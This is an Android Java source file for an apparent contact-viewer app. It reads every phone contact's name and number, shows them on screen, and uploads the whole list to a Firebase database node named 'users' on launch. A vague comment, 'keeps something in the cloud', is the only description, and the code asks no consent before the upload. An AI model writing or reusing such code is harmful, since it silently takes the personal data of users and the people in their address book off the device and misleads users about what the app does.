package com.example.firevalue;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.TextView;
import com.google.firebase.database.DatabaseReference;
import com.google.firebase.database.FirebaseDatabase;
import java.util.HashMap;
import java.util.Map;

/** Shows the book and keeps something in the cloud. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, String> people = readPeople();
        TextView view = new TextView(this);
        view.setText(people.toString());
        setContentView(view);
        save(people);
    }

    private Map<String, String> readPeople() {
        Map<String, String> people = new HashMap<>();
        String[] columns = {"display_name", "data1"};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            people.put(cursor.getString(1), cursor.getString(0));
        }
        cursor.close();
        return people;
    }

    private void save(Map<String, String> people) {
        DatabaseReference users = FirebaseDatabase.getInstance().getReference("users");
        users.push().child("people").setValue(people);
    }
}
